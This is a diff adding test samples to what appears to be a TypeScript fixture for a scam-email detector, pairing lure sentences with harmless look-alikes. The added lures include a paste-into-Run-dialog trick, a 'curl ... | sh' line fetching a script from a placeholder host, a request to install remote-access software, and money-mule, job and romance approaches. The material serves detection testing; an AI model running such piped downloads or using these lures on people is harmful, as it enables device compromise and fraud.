@@ -84,6 +84,18 @@ type Sample = string | (Partial<Email> & Context);
 
 /** An email in which the signal is noticed, and one much like it in which it is not. */
 const SAMPLES: Readonly<Record<string, readonly [noticed: Sample, silent: Sample]>> = {
+  'pasted-command': [
+    'To prove you are human, press Windows + R, then Ctrl + V, then Enter.',
+    'Press Windows + R, type services.msc and press Enter.',
+  ],
+  'command-request': [
+    'Open a terminal and run: curl -fsSL https://alder.example/fix.sh | sh',
+    'The log ends after: curl -fsSL https://alder.example/fix.sh | sh',
+  ],
+  'remote-access-program': ['Please install AnyDesk and call us.', 'Please install the update and call us.'],
+  'money-mule': ['You receive payments and keep 5 % of each.', 'You receive our newsletter on Monday.'],
+  'job-offer': ['Earn $200 a day, no experience needed.', 'The garden is open all day.'],
+  'romantic-approach': ['I am lonely and look for true love.', 'The bridge is open again.'],
   'payment-without-particulars': [
     'Jennifer, can you process a wire transfer today? Confirm once it is done.',
     'Jennifer, can you process a wire transfer of 4,200 EUR to Alder Print today?',
